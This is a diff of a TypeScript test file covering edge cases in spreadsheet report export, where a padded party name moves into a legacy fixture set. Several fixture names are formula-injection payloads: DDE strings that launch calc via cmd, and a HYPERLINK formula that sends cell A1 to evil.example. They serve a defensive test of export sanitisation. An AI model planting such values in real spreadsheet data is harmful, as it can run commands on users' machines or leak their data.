@@ -78,17 +78,18 @@ describe('spreadsheet reports: edge cases', () => {
     'p-minus': { name: "-2+3+cmd|' /C calc'!A0", kind: 'other' },
     'p-minus2': { name: '-1+1', kind: 'other' },
     'p-eq': { name: '=HYPERLINK("http://evil.example/?x="&A1,"klikk")', kind: 'nav-county-office' },
-    'p-space': { name: '  Med mellomrom  ', kind: 'other' },
     'p-at': { name: '@SUM(1+1)*cmd|\' /C calc\'!A0', kind: 'other' },
     'p-plus': { name: '+1+1', kind: 'other' },
     'p-union': { name: 'Utdanningsforbundet', kind: 'union' },
     'p-uni': { name: 'Universitetet i Sørøst-Norge', kind: 'university' },
   };
   /**
-   * Names the API now refuses (control characters, U+FFFE): parties recorded before that rule, or
-   * by another tool, may still hold them, so they are written straight to the store.
+   * Names the API now refuses (control characters, U+FFFE) or changes (a party's name is trimmed):
+   * parties recorded before those rules, or by another tool, may still hold them, so they are written
+   * straight to the store.
    */
   const LEGACY: Record<string, { name: string; kind: string; countyId: string }> = {
+    'p-space': { name: '  Med mellomrom  ', kind: 'other', countyId: 'telemark' },
     'p-semi': { name: 'Kommune A; "B"\nlinje 2', kind: 'municipality', countyId: 'telemark' },
     'p-tab': { name: '\t=1+1', kind: 'other', countyId: 'telemark' },
     'p-cr': { name: '\r=1+1', kind: 'other', countyId: 'telemark' },
